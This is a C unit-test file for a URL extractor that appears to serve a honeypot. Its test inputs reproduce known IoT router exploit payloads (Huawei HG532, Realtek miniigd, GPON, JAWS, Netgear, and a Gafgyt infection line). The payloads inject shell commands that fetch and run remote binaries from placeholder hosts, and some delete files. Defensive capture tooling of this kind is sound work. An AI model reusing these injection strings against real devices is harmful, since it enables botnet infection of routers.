/* Unit tests of capture_payload_urls with the payloads of widely used IoT web exploits
 * (research/webui_devid.md §3), their hosts replaced by documentation addresses. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>

#include "capture/capture.h"

struct got {
	char urls[8][256];
	char methods[8][16];
	size_t n;
};

static void collect(void *arg, const char *url, const char *method)
{
	struct got *g = arg;
	if (g->n < 8) {
		lib_strlcpy(g->urls[g->n], url, sizeof(g->urls[0]));
		lib_strlcpy(g->methods[g->n], method, sizeof(g->methods[0]));
	}
	g->n++;
}

static struct got run(const char *payload)
{
	struct got g = {0};
	capture_payload_urls(payload, strlen(payload), collect, &g);
	return g;
}

static void test_huawei_hg532_soap(void **state)
{
	struct got g = run("<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade "
			   "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
			   "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.5 -l /tmp/.f -r /mips; "
			   "/tmp/.f huawei)</NewStatusURL>"
			   "<NewDownloadURL>$(echo "
			   "HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>");
	/* Satori's payload gives wget tftp-style flags and no URL: nothing a device would fetch. */
	assert_int_equal(g.n, 0);
	g = run("<NewStatusURL>$(/bin/busybox wget http://192.0.2.5/bins/mips -O /tmp/m; chmod 777 "
		"/tmp/m)</NewStatusURL>");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.urls[0], "http://192.0.2.5/bins/mips");
	assert_string_equal(g.methods[0], "wget");
}

static void test_realtek_miniigd_backticks(void **state)
{
	struct got g = run("<NewInternalClient>`cd /var; tftp -g -r mipsel 192.0.2.6;chmod 777 "
			   "mipsel;./mipsel`</NewInternalClient>");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.urls[0], "tftp://192.0.2.6/mipsel");
	assert_string_equal(g.methods[0], "tftp");
}

static void test_gpon_form_encoded(void **state)
{
	struct got g = run("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+"
			   "wget+http://192.0.2.7/gpon.sh+-O+/tmp/g;sh+/tmp/g`;busybox+wget+http://"
			   "192.0.2.7/gpon.sh&ipv=0");
	assert_int_equal(g.n, 2);
	assert_string_equal(g.urls[0], "http://192.0.2.7/gpon.sh");
}

static void test_jaws_and_netgear_paths(void **state)
{
	struct got g = run("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.8/jaws;sh+/tmp/jaws");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.urls[0], "http://192.0.2.8/jaws");
	g = run("/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://192.0.2.9/n.sh;sh${IFS}n.sh");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.urls[0], "http://192.0.2.9/n.sh");
	g = run("/cgi-bin/;wget%20192.0.2.9/noscheme.sh%20-O%20/tmp/x");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.urls[0], "http://192.0.2.9/noscheme.sh");
}

static void test_tr064_gafgyt_line(void **state)
{
	/* The Gafgyt infection line inside TR-064's NewNTPServer1 (honeypots.md §4.3). */
	struct got g = run("<NewNTPServer1>cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
			   "wget http://192.0.2.10/bins.sh; "
			   "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh; chmod "
			   "777 tftp1.sh; sh tftp1.sh; "
			   "tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; "
			   "ftpget -v -u anonymous -p anonymous "
			   "-P 21 192.0.2.10 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh "
			   "tftp2.sh ftp1.sh; rm -rf *</NewNTPServer1>");
	assert_int_equal(g.n, 4);
	assert_string_equal(g.urls[0], "http://192.0.2.10/bins.sh");
	assert_string_equal(g.urls[1], "tftp://192.0.2.10/tftp1.sh");
	assert_string_equal(g.urls[2], "tftp://192.0.2.10/tftp2.sh");
	assert_string_equal(g.urls[3], "ftp://anonymous:anonymous@192.0.2.10:21/ftp1.sh");
	assert_string_equal(g.methods[3], "ftpget");
}

static void test_xml_entities_and_quotes(void **state)
{
	struct got g = run("remote_host=%3Bcurl%20-s%20&quot;http://192.0.2.11/x&quot;%20-o%20/tmp/"
			   "x%3B%23&amp;z=1");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.urls[0], "http://192.0.2.11/x");
	assert_string_equal(g.methods[0], "curl");
}

static void test_no_command_no_url(void **state)
{
	struct got g = run("GET /index.html?next=http://192.0.2.12/page HTTP/1.1");
	assert_int_equal(g.n, 0);
	g = run("");
	assert_int_equal(g.n, 0);
}

static void test_bounded(void **state)
{
	static char big[CAPTURE_PAYLOAD_MAX * 2];
	size_t n = 0;
	while (n + 40 < sizeof(big)) {
		memcpy(big + n, ";wget http://192.0.2.13/aaaaaaaaaaaaa", 38);
		n += 38;
	}
	big[n] = '\0';
	struct got g = {0};
	assert_int_equal(capture_payload_urls(big, n, collect, &g), CAPTURE_PAYLOAD_MAX_URLS);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_huawei_hg532_soap),
		cmocka_unit_test(test_realtek_miniigd_backticks),
		cmocka_unit_test(test_gpon_form_encoded),
		cmocka_unit_test(test_jaws_and_netgear_paths),
		cmocka_unit_test(test_tr064_gafgyt_line),
		cmocka_unit_test(test_xml_entities_and_quotes),
		cmocka_unit_test(test_no_command_no_url),
		cmocka_unit_test(test_bounded),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
